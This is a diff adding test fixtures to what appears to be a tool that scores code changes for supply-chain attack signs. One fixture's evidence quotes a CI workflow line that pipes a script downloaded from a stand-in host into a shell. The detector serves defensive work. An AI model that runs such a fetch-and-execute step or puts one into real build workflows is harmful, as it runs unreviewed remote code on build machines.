@@ -44,6 +44,29 @@ DEFECT = Concern(
     reference="the 1,000 changes before it",
     reasons=REASONS,
 )
+HIDING = Reason(
+    feature="by_itself_executes_download",
+    points=-41.5,
+    value=1.0,
+    typical=None,
+    cost_to_fake=Cost.CHEAP,
+    sentence="in what runs by itself, it downloads a program and runs it, as none of the changes before it did",
+    evidence=(Evidence("file", ".github/workflows/fire.yml", 8, "run: curl https://kettle.example/a | sh"),),
+)
+UNSIGNED = Reason("history_nobody", -9.0, 1.0, None, Cost.FREE, "its author has a name like null")
+TOUCHING = Reason(
+    "by_itself_build_tool", -2.5, 2.0, None, Cost.COSTLY, "it touches what builds it", (Evidence("file", "Makefile"),)
+)
+ATTACK = Concern(
+    id="attack",
+    question="Does it do what attacks do, and how rare is that here?",
+    band=Band.HIGH_RISK,
+    alarm_share=0.0009,
+    probability=None,
+    reference="the 1,000 changes before it and changes of other projects",
+    reasons=(START, replace(TOUCHING, points=-2.5), UNSIGNED, HIDING, replace(SMALLER, points=-9.2)),
+)
+"""A change whose workflow runs what it downloads."""
 MALWARE = Concern(
     "malware", "Does it harm whoever installs or imports it?", Band.ORDINARY, 1.0, 0.0004, "ordinary packages"
 )
